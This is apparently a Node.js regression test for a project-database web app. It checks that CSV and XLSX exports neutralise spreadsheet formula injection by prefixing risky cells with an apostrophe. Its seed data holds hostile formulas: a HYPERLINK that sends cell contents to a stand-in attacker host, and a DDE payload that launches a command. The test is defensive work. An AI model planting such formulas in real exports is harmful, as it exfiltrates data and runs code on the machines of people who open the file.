// Issue 13, finding 11: formula injection in exports.  A text cell starting
// with = + - @ tab or CR is prefixed with a single quote in CSV and XLSX
// (OWASP); numbers (money, rates), even sent as strings, are left alone.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startServerAs } from './lib.mjs';
import { unitId } from './reports_helpers.mjs';

let server, office, jinshan, U;
const tag = `FX${process.pid}`;
const evil = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\r=1+1'];

before(async () => {
  [server, office, jinshan] = await startServerAs('office', 'jinshan');
  U = await unitId(office, '金山街道');
  let i = 0;
  for (const name of evil) {
    const r = await jinshan.post('/api/v1/projects', { code: `${tag}-${i++}`, name, level: 'district', category: '产业项目',
      chain: '新材料', stage: 'reserve', unit_id: U, total_investment: '1.5亿' });
    assert.equal(r.status, 201, JSON.stringify(r.body));
  }
});
after(async () => { await server?.stop(); });

const cols = encodeURIComponent('name:名称,total_investment:总投资,=cmd:=危险');

test('CSV: dangerous text is quoted with a leading apostrophe, money stays a number', async () => {
  const r = await office.get(`/api/v1/projects?q=${tag}&per_page=500&format=csv&columns=${cols}`);
  assert.equal(r.status, 200);
  const text = r.body.toString('utf8');
  for (const name of evil) assert.ok(text.includes(`"'${name.replace(/"/g, '""')}"`), `${JSON.stringify(name)} in ${text}`);
  assert.ok(text.includes('"150000000.00"'));
  assert.ok(!text.includes('"\'150000000.00"'));
  assert.ok(text.includes('"\'=危险"'), 'a label from the URL is neutralised too');
  assert.ok(!/(^|,)"[=+\-@\r]/m.test(text.replace(/^\uFEFF/, '')), text);
});

test('XLSX: the same for text cells', async () => {
  const r = await office.get(`/api/v1/projects?q=${tag}&per_page=500&format=xlsx&columns=${cols}`);
  assert.equal(r.status, 200);
  const dir = mkdtempSync(join(tmpdir(), 'guatu-fx-'));
  try {
    writeFileSync(join(dir, 'x.xlsx'), r.body);
    const xml = spawnSync('unzip', ['-p', join(dir, 'x.xlsx'), 'xl/sharedStrings.xml'], { encoding: 'utf8' }).stdout
      || spawnSync('unzip', ['-p', join(dir, 'x.xlsx'), 'xl/worksheets/sheet1.xml'], { encoding: 'utf8' }).stdout;
    const strings = [...xml.matchAll(/<t(?: [^>]*)?>([^<]*)<\/t>/g)].map((m) => m[1]);
    assert.ok(strings.length >= evil.length, xml.slice(0, 400));
    for (const s of strings) assert.ok(!/^[=+\-@\r\t]|^&#13;|^_x000D_/.test(s), `unneutralised cell ${JSON.stringify(s)}`);
    assert.ok(strings.some((s) => s.startsWith("'=HYPERLINK")), strings.join(' | '));
    assert.ok(strings.includes('150000000.00'));
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
